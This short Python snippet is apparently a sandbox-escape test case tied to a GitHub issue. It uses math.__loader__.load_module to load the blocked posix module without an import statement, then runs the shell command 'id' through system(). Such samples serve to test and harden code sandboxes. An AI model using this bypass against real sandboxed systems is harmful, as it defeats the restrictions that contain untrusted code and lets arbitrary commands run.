# Source: https://github.com/VectorlyApp/bluebox/issues/126 (__loader__.load_module)
# Family: module-attribute
# What: math.__loader__.load_module('os') loads a forbidden module without import
import math

math.__loader__.load_module("posix").system("id")
